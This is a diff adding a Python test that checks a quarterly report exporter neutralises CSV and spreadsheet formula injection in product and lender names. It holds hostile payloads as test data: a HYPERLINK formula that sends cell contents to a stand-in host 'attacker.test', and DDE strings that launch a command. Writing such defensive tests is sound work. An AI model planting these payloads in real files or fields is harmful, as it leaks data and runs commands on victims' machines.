@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import random
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import UTC, date, datetime, timedelta
 from decimal import ROUND_HALF_UP, Decimal
 from zoneinfo import ZoneInfo
@@ -243,3 +243,36 @@ def test_cli_writes_both_files_and_refuses_a_bad_quarter(env, session, tmp_path)
                                     "--out", str(tmp_path / "bad")], env=env)
     assert bad.exit_code != 0 and "quarter must be 1, 2, 3 or 4" in bad.output
     assert not (tmp_path / "bad").exists()
+
+
+HOSTILE_PRODUCTS = ('=HYPERLINK("http://attacker.test/?x="&A1,"Klik")', "+1+cmd|' /C calc'!A0",
+                    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
+
+
+def test_formula_looking_names_stay_text_in_the_csv_and_the_xlsx(session, settings, tmp_path):
+    """OWASP CSV injection: a product or lender name starting with =, +, -, @, tab or CR
+    never becomes a live formula in either file; the name still reads as written."""
+    when = datetime(2026, 11, 2, 10, tzinfo=WIB)
+    for index, product in enumerate(HOSTILE_PRODUCTS):
+        customer = make_customer(session, order_id=f"9000{index}", product=product)
+        open_ticket(session, channel="email", customer_id=customer.id,
+                    category="app_failure", now=when)
+    session.commit()
+    lender = "=cmd|'/C calc'!A0"
+    report = quarterly_report(session, replace(settings, lender_name=lender), 2026, 4)
+    assert sorted(r.product for r in report.rows) == sorted(HOSTILE_PRODUCTS)
+
+    with write_csv(report, tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as stream:
+        products = [line[0] for line in csv.reader(stream)][1:-1]
+    assert sorted(products) == sorted(f"'{p}" for p in HOSTILE_PRODUCTS)
+    assert not any(p.startswith(("=", "+", "-", "@", "\t", "\r")) for p in products)
+
+    sheet = openpyxl.load_workbook(write_xlsx(report, tmp_path / "r.xlsx")).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
+             if isinstance(cell.value, str)}
+    for text in (*HOSTILE_PRODUCTS, lender):
+        text = text.replace("\r", "\n")  # XML reads a bare CR back as LF
+        assert text in cells, f"{text!r} is not in the sheet as written"
+        assert cells[text].data_type == "s", f"{text!r} is stored as a formula"
+        assert cells[text].quotePrefix  # Excel keeps it text even when someone edits it
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
